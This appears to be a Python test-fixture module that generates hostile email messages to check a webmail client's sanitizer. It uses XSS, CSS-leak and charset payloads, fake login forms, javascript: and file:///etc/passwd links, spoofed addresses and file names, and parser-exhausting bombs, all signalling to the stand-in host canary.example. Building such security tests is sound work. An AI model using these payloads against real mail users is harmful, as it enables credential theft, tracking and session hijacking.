"""Messages that try to harm whoever reads them in a browser: ours, made here, in the classes that are known.

Each would say so: by a dialog, a title, an address, or a request to `ELSEWHERE`. Each has `READABLE` in it.
"""

from __future__ import annotations

import base64
import struct
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

ELSEWHERE: Final = "https://canary.example"
READABLE: Final = "Good morning"
_RUN: Final = "alert(1);document.title='owned';top.document.title='owned';fetch('https://canary.example/run')"
_B64_RUN: Final = base64.b64encode(f"<script>{_RUN}</script>".encode()).decode()


@dataclass(frozen=True)
class Hostile:
    """``kind`` is its class. ``below`` is the page below the message's own that is opened; empty: its own."""

    kind: str
    name: str
    content: bytes
    below: str = ""


_HEADER = "From: Mallory <mallory@canary.example>\r\nTo: anna@example.org\r\nMIME-Version: 1.0\r\n"


def _message(body: bytes, kind: str = "text/html; charset=utf-8", header: str = "Subject: Hello\r\n") -> bytes:
    return f"{_HEADER}{header}Content-Type: {kind}\r\n\r\n".encode() + body


def _html(markup: str, header: str = "Subject: Hello\r\n") -> bytes:
    return _message(f"<p>{READABLE}</p>{markup}".encode(), header=header)


def _mixed(*parts: tuple[str, bytes], subtype: str = "mixed", header: str = "Subject: Hello\r\n") -> bytes:
    body = b"".join(
        b"--=_b\r\nContent-Type: " + kind.encode() + b"\r\n\r\n" + content + b"\r\n" for kind, content in parts
    )
    return _message(body + b"--=_b--\r\n", f'multipart/{subtype}; boundary="=_b"', header)


_TEXT = ("text/plain; charset=utf-8", READABLE.encode())
_RICH = ("text/html; charset=utf-8", f"<p>{READABLE}</p>".encode())

_MARKUP: dict[str, dict[str, str]] = {
    "SVG and animation": {
        "onload": f'<svg onload="{_RUN}"><circle r=9></svg>',
        "animate": f'<svg><animate attributeName=x dur=1s onbegin="{_RUN}" /></svg>',
        "set-href": "<svg><a><set attributeName=href to='javascript:alert(1)'/><text y=20>x</text></a></svg>",
        "script": f"<svg><script>{_RUN}</script></svg>",
        "foreign": f'<svg><foreignObject><img src=x onerror="{_RUN}"></foreignObject></svg>',
    },
    "remote by SVG": {
        "image": f"<svg><image href='{ELSEWHERE}/svg.png' width=9 height=9 /></svg>",
        "use": f"<svg><use href='{ELSEWHERE}/x.svg#a'/><filter><feImage href='{ELSEWHERE}/f.png'/></filter></svg>",
        "style": f"<svg><style>@import '{ELSEWHERE}/svg.css';</style><rect fill=\"url('{ELSEWHERE}/p#x')\" width=9 height=9 /></svg>",
    },
    "data: with split type": {
        "comma": f"<iframe src='data:text/html;,<script>{_RUN}</script>'></iframe>",
        "base64": f"<a href='data:text/html;base64,{_B64_RUN}'>click</a><embed src='data:text/html;base64,{_B64_RUN}'>",
        "split": f'<object data="data:te&#x0a;xt/ht&#9;ml;base64,{_B64_RUN}"></object>',
        "svg": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{'alert(1)'}'/>\">",
    },
    "MathML mutation": {
        "mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>',
        "form": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{_RUN}"></style></form>',
        "annotation": f"<math><annotation-xml encoding='text/html'><img src=x onerror=\"{_RUN}\"></annotation-xml></math>",
        "href": "<math href='javascript:alert(1)'>click</math>",
    },
    "broken-markup mutation": {
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
        "textarea": f'<textarea><img title="</textarea><img src=x onerror={_RUN}>">',
        "unclosed": f'<img src="x" title="<img src=x onerror={_RUN}>',
        "attributes": f'<a/href/onmouseover="{_RUN}"style=position:fixed;inset:0>x</a><img\x0bsrc=x\x0conerror="{_RUN}">',
        "slash": f"<svg/onload={_RUN}><scr\0ipt>{_RUN}</scr\0ipt><<script>{_RUN}//<</script>",
        "template": f"<template><script>{_RUN}</script></template><select><template></select><img src=x onerror={_RUN}></template>",
    },
    "CSS leaks": {
        "url": f"<style>p{{background:url({ELSEWHERE}/bg)}} li{{list-style-image:url('{ELSEWHERE}/li')}}</style><ul><li>x</ul>",
        "import": f"<style>@import '{ELSEWHERE}/a.css';@import url({ELSEWHERE}/b.css);</style>",
        "font": f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/f.woff)}}p{{font-family:x}}</style>",
        "attribute": f"<style>input[value^=a]{{background:url({ELSEWHERE}/a)}}</style><input value=abc>",
        "image-set": f'<p style="background:image-set(\'{ELSEWHERE}/s\' 1x)">x</p><p style="border-image:url({ELSEWHERE}/b) 1">x</p>',
    },
    "CSS evasions": {
        "escapes": f"<p style='background:\\75\\72\\6c({ELSEWHERE}/e)'>x</p><style>p{{b\\61 ckground:u\\rl({ELSEWHERE}/f)}}</style>",
        "comments": f"<p style='background:/**/url(/**/{ELSEWHERE}/c)'>x</p><style>@\\69mport '{ELSEWHERE}/i.css';</style>",
        "variables": f"<p style='--x:url({ELSEWHERE}/v);background:var(--x)'>x</p>",
        "closing": f'<style>a{{}}</style\n><script>{_RUN}</script><style></style/x><img src=x onerror="{_RUN}">',
    },
    "remote by attributes": {
        "img": f"<img src={ELSEWHERE}/1 srcset='{ELSEWHERE}/2 1x' lowsrc={ELSEWHERE}/3 dynsrc={ELSEWHERE}/4>",
        "background": f"<table background={ELSEWHERE}/t><td background={ELSEWHERE}/td>x</table><body background={ELSEWHERE}/b>",
        "media": f"<video poster={ELSEWHERE}/p src={ELSEWHERE}/v autoplay></video><audio src={ELSEWHERE}/a autoplay></audio>",
        "picture": f"<picture><source srcset={ELSEWHERE}/s><img src={ELSEWHERE}/i></picture><input type=image src={ELSEWHERE}/in>",
        "ping": f"<a href='{ELSEWHERE}/x' ping='{ELSEWHERE}/ping'>x</a><img src='//canary.example/relative'>",
    },
    "remote by head": {
        "link": f"<link rel=stylesheet href={ELSEWHERE}/s.css><link rel=preload as=image href={ELSEWHERE}/p><link rel=icon href={ELSEWHERE}/i>",
        "prefetch": f"<link rel=dns-prefetch href=//canary.example><link rel=prefetch href={ELSEWHERE}/f><link rel=preconnect href={ELSEWHERE}>",
        "meta": f"<meta http-equiv=Content-Security-Policy content=\"default-src *\"><meta http-equiv=Link content='<{ELSEWHERE}/m>;rel=preload;as=image'>",
    },
    "overlays": {
        "fixed": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999'>Your session ended</div>",
        "negative": "<div style='margin-top:-2000px;height:3000px;background:white'>x</div>",
        "target": "<a href='https://canary.example/' target=_top style='display:block;width:5000px;height:5000px'>click anywhere</a>",
    },
    "false login forms": {
        "form": f"<form action={ELSEWHERE}/login method=post>Password: <input type=password name=p autofocus><input type=submit></form>",
        "autofill": f"<form action={ELSEWHERE}><input name=username autocomplete=username><input type=password autocomplete=current-password></form>",
    },
    "forms": {
        "submit": f"<form id=f action={ELSEWHERE}/f><input name=a value=b></form><button form=f formaction=javascript:alert(1)>x</button>",
        "csrf": "<form action=/logout method=post><input type=submit value=x></form><form action=/mail/1/do method=post></form>",
        "dialog": "<dialog open><form method=dialog><button autofocus>OK</button></form></dialog><isindex action=javascript:alert(1)>",
    },
    "navigation": {
        "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/refresh'>",
        "base": f"<base href='{ELSEWHERE}/' target=_top><a href=x>x</a><img src=relative.png>",
        "top": f"<script>top.location='{ELSEWHERE}/top';parent.postMessage('x','*')</script>",
    },
    "frames and objects": {
        "iframe": f'<iframe src={ELSEWHERE}/frame></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe>',
        "frameset": f"<frameset><frame src={ELSEWHERE}/fs></frameset>",
        "object": f"<object data={ELSEWHERE}/o><param name=x></object><embed src={ELSEWHERE}/e><applet code=x archive={ELSEWHERE}/a></applet>",
        "own": "<iframe src=/settings/></iframe><iframe src=/></iframe><object data=/mail/1/></object>",
    },
    "scheme tricks": {
        "javascript": "<a href=' j\na\tv\rascript:alert(1)'>x</a><a href='&#106;avascript&colon;alert(1)'>x</a><a href='JaVaScRiPt:alert(1)'>x</a>",
        "others": "<a href=vbscript:x>x</a><a href=file:///etc/passwd>x</a><a href=blob:x>x</a><a href=view-source:x>x</a>",
        "image": f"<img src='javascript:alert(1)'><img src='livescript:x'><img src='x:{ELSEWHERE}'>",
    },
    "cid of another message": {
        "cid": "<img src='cid:secret@other'><img src='cid:../1/part/1'><img src='cid:%2e%2e%2f1'>",
        "path": "<img src='/images/1.1.1.9999999999.AAAA/1'><img src='/mail/1/1/part/1'><img src='/mail/1/1/original'>",
    },
    "hidden text on forward": {
        "zero": "<span style='font-size:0'>secret instructions</span><span style='display:none'>hidden</span>",
        "quoted": f"<blockquote><style>.x{{display:none}}</style><div class=x>{_RUN}</div></blockquote>",
    },
    "compose path": {
        "quote": f'<blockquote onclick="{_RUN}" contenteditable><img src=x onerror="{_RUN}"></blockquote>',
        "mailto": "<a href='mailto:x@y?subject=%0d%0aBcc:z@canary.example&body=<script>alert(1)</script>&attach=/etc/passwd'>write</a>",
    },
}


def _depth_and_width() -> Iterator[tuple[str, bytes]]:
    yield "deep", _html("<div>" * 100_000 + "x")
    yield "deep-tables", _html("<table><tr><td>" * 5_000 + "x")
    yield "wide", _html("<i>x</i>" * 200_000)
    yield "attributes", _html("<p " + " ".join(f"a{number}=x" for number in range(100_000)) + ">x</p>")
    yield "formatting", _html("".join(f"<b id=a{number}><p>" for number in range(3_000)))


def _size() -> Iterator[tuple[str, bytes]]:
    yield "long line", _message((READABLE + "x" * 4_000_000).encode(), "text/plain")
    yield "many lines", _message((READABLE + "\r\n> a\r\nb" * 300_000).encode(), "text/plain")
    yield "css", _html("<style>" + "*:hover > * ~ * + *{color:red}" * 20_000 + "</style>")


def _decoders() -> Iterator[tuple[str, bytes]]:
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60_000, 60_000, 8, 6, 0, 0, 0) + b"\0" * 64
    picture = base64.b64encode(png)
    head = "image/png\r\nContent-ID: <p@x>\r\nContent-Transfer-Encoding: base64"
    yield (
        "huge picture",
        _mixed(("text/html", f"<p>{READABLE}<img src='cid:p@x'>".encode()), (head, picture), subtype="related"),
    )
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_RUN}\"/>".encode()
    head = "image/png\r\nContent-ID: <p@x>"
    yield (
        "svg as png",
        _mixed(("text/html", f"<p>{READABLE}<img src='cid:p@x'>".encode()), (head, svg), subtype="related"),
    )
    yield "combining", _message((READABLE + "\u0301" * 50_000).encode(), "text/plain; charset=utf-8")
    yield "base64 noise", _message(b"!" * 100_000, "text/html\r\nContent-Transfer-Encoding: base64") + READABLE.encode()


def _others() -> Iterator[tuple[str, str, bytes]]:
    plain = "text/plain; charset=utf-8"
    yield (
        "plain-text linkifier",
        "quotes",
        _message(f'{READABLE} https://x/"onmouseover="{_RUN}" <https://x/\'><script>{_RUN}</script>'.encode(), plain),
    )
    yield (
        "plain-text linkifier",
        "scheme",
        _message(f"{READABLE} javascript:alert(1) data:text/html,x www.<img src=x onerror={_RUN}>".encode(), plain),
    )
    yield (
        "plain-text linkifier",
        "bomb",
        _message((READABLE + " " + "http://a" * 50_000 + " a@" * 50_000).encode(), plain),
    )
    yield (
        "CDATA and XML parts",
        "cdata",
        _html(f"<![CDATA[<script>{_RUN}</script>]]><svg><![CDATA[><img src=x onerror={_RUN}>]]></svg>"),
    )
    yield (
        "CDATA and XML parts",
        "xhtml",
        _mixed(
            _TEXT,
            (
                "application/xhtml+xml",
                f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{_RUN}</script></html>".encode(),
            ),
        ),
    )
    yield (
        "CDATA and XML parts",
        "xml",
        _mixed(_TEXT, ("text/xml", f"<?xml-stylesheet href='{ELSEWHERE}/x.xsl' type='text/xsl'?><a/>".encode())),
    )
    for kind in (
        "text/html; name=a.html",
        "image/svg+xml; name=a.svg",
        "application/x-shockwave-flash",
        "text/javascript",
    ):
        yield (
            "attachment types",
            kind.partition(";")[0],
            _mixed(_TEXT, (f"{kind}\r\nContent-Disposition: attachment", f"<script>{_RUN}</script>".encode())),
        )
    for name in (
        "../../../etc/passwd",
        "a\u202egpj.exe",
        "<img src=x onerror=alert(1)>.txt",
        "x" * 5_000,
        "CON",
        'a\\"; filename=b.html',
    ):
        part = f'application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"'
        yield "file names", repr(name[:20]), _mixed(_TEXT, (part, b"x"))
    yield (
        "charset switching",
        "utf-7",
        _message(b"<p>Good morning</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7"),
    )
    yield (
        "charset switching",
        "iso-2022-jp",
        _message(
            b'<p>Good morning</p><img title="\x1b$B"><img src=x onerror=alert(1)>\x1b(B">',
            "text/html; charset=iso-2022-jp",
        ),
    )
    yield "charset switching", "meta", _html("<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
    yield (
        "charset switching",
        "utf-16",
        _message(f"<p>{READABLE}</p><script>{_RUN}</script>".encode("utf-16"), "text/html; charset=utf-16"),
    )
    yield "header names and subjects", "subject", _html("x", f"Subject: </title><script>{_RUN}</script>{{{{7*7}}}}\r\n")
    yield (
        "header names and subjects",
        "controls",
        _html("x", "Subject: =?utf-8?q?a=0D=0ASet-Cookie:_x=1=1B[2J=E2=80=AE?=\r\n"),
    )
    yield (
        "header names and subjects",
        "names",
        _html("x", f"X-<script>{_RUN}</script>: x\r\nSubject: a\r\n<img src=x onerror=alert(1)>: y\r\n"),
    )
    yield "header names and subjects", "long", _html("x", "Subject: " + "W" * 100_000 + "\r\n")
    for name in (
        '"anna@example.org" <x@canary.example>',
        "=?utf-8?b?" + base64.b64encode("ceo\u202egro.elpmaxe@".encode()).decode() + "?= <x@canary.example>",
        '"<script>alert(1)</script>" <"<img src=x onerror=alert(1)>"@canary.example>',
        "a@examp1e.org",
    ):
        yield (
            "address spoofing",
            repr(name[:20]),
            _message(f"<p>{READABLE}</p>".encode()).replace(b"Mallory <mallory@canary.example>", name.encode()),
        )
    calendar = f'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:<img src=x onerror={_RUN}>\r\nLOCATION:javascript:alert(1)\r\nURL:{ELSEWHERE}\r\nATTACH:{ELSEWHERE}/a\r\nDTSTART:99999999T999999Z\r\nORGANIZER;CN="</title>":mailto:x\r\nEND:VEVENT\r\nEND:VCALENDAR'
    yield (
        "invitations",
        "markup",
        _mixed(_TEXT, ("text/calendar; method=REQUEST", calendar.encode()), subtype="alternative"),
    )
    yield (
        "invitations",
        "many",
        _mixed(_TEXT, ("text/calendar", ("BEGIN:VEVENT\r\n" * 20_000 + "ATTENDEE:x\r\n" * 20_000).encode())),
    )
    yield (
        "structure",
        "nested",
        b"".join(_message(b"", f"multipart/mixed; boundary=b{n}") + b"--b%d\r\n" % n for n in range(100))
        + b"Content-Type: text/plain\r\n\r\n"
        + READABLE.encode(),
    )
    yield "structure", "many parts", _mixed(*[_TEXT] * 20_000)
    yield (
        "structure",
        "no end",
        _message(b"--b\r\nContent-Type: text/html\r\n\r\n<p>Good morning<", "multipart/mixed; boundary=b"),
    )
    yield (
        "structure",
        "two types",
        _html("x").replace(b"Content-Type:", b"Content-Type: text/plain\r\nContent-Type:", 1),
    )
    yield "structure", "html and nothing", _message(f"<svg><desc>{READABLE}<script>{_RUN}</script>".encode())


def _enclosed() -> Iterator[Hostile]:
    """Messages within others, opened on their own pages."""
    inner = _html(
        f"<script>{_RUN}</script><iframe src={ELSEWHERE}/f></iframe><img src=x onerror={_RUN}><img src='cid:p@x'>"
        f"<img src='../part/1'><img src={ELSEWHERE}/p.png><base href={ELSEWHERE}/><form action={ELSEWHERE}/f>",
        "Subject: </title><script>alert(1)</script>\r\nDate: Fri, 31 Dec 99999 23:59:59 +9999\r\n",
    )
    picture = "image/png\r\nContent-ID: <p@x>", b"\x89PNG\r\n\x1a\n"

    def within(message: bytes, encoding: str = "") -> bytes:
        return _mixed(_TEXT, (f"message/rfc822{encoding}", message), picture)

    encoded = "\r\nContent-Transfer-Encoding: base64"
    yield Hostile("enclosed messages", "markup", within(inner), "/enclosed/2")
    yield Hostile("enclosed messages", "encoded", within(base64.encodebytes(inner), encoded), "/enclosed/2")
    yield Hostile("enclosed messages", "twice", within(within(inner).replace(b"=_b", b"=_c")), "/enclosed/2_2")
    yield Hostile("enclosed messages", "svg", within(_html(_MARKUP["SVG and animation"]["onload"])), "/enclosed/2")
    yield Hostile("enclosed messages", "navigation", within(_html(_MARKUP["navigation"]["top"])), "/enclosed/2")
    yield Hostile("enclosed messages", "bomb", within(_html("<div>" * 100_000)), "/enclosed/2")
    deep = inner
    for level in range(100):
        deep = within(deep.replace(b"=_b", b"=_%d" % level))
    yield Hostile("enclosed messages", "deep", deep, "/enclosed/2_2_2_2_2_2_2_2")
    claims = _message(inner, f'message/rfc822; name="\'><script>{_RUN}</script>.eml"')
    yield Hostile("enclosed messages", "alone", claims, "/enclosed/1")


def _asked() -> Iterator[tuple[str, str, bytes]]:
    """Invitations that can be answered: what stands on the page is a stranger's, also whom the answer goes to."""

    def invitation(event: str, before: str = "") -> bytes:
        text = (
            f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\n{before}BEGIN:VEVENT\r\nUID:<script>{_RUN}</script>\r\n"
            f'SUMMARY:{READABLE}</h2><script>{_RUN}</script>\r\nDTSTART;TZID="><img src=x onerror=alert(1)>":'
            f"20261201T120000\r\n{event}ATTENDEE:mailto:anna@example.org\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        )
        return _mixed(_TEXT, ("text/calendar; method=REQUEST", text.encode()), subtype="alternative")

    yield (
        "invitations",
        "organiser",
        invitation(f'ORGANIZER;CN="<img src=x onerror={_RUN}>":mailto:"><script>alert(1)</script>"@canary.example\r\n'),
    )
    yield "invitations", "elsewhere", invitation("ORGANIZER:mailto:a@canary.example?bcc=b@canary.example\r\n")
    crowd = 'ATTENDEE;CN="</dd>":mailto:x@canary.example\r\n' * 10_000
    yield "invitations", "crowd", invitation(f"ORGANIZER:mailto:a@canary.example\r\n{crowd}")
    rule = "RRULE:FREQ=SECONDLY;COUNT=999999999;BYSECOND=" + ",".join(["1"] * 50_000)
    yield "invitations", "rule", invitation(f"ORGANIZER:mailto:a@canary.example\r\n{rule}\r\n")
    yield (
        "invitations",
        "folding",
        invitation("ORGANIZER:mailto:a@canary.example\r\nLOCATION:" + "a\r\n " * 50_000 + "\r\n"),
    )
    yield "invitations", "nested", invitation("BEGIN:VEVENT\r\nBEGIN:VALARM\r\n" * 5_000)
    zones = "BEGIN:VTIMEZONE\r\nTZID:x\r\n" * 5_000
    yield (
        "invitations",
        "zones",
        invitation("ORGANIZER:mailto:a@canary.example\r\nRECURRENCE-ID;TZID=x:20261201T120000\r\n", zones),
    )
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>"
    yield "attachment types", "PDF with a script", _mixed(_TEXT, ("application/pdf; name=a.pdf", pdf))


def hostile() -> list[Hostile]:
    """Returns all of them."""
    found = [Hostile(kind, name, _html(markup)) for kind, each in _MARKUP.items() for name, markup in each.items()]
    for kind, made in (("depth and width", _depth_and_width), ("size", _size), ("decoders", _decoders)):
        found += [Hostile(kind, name, content) for name, content in made()]
    return [*found, *(Hostile(*each) for each in (*_others(), *_asked())), *_enclosed()]
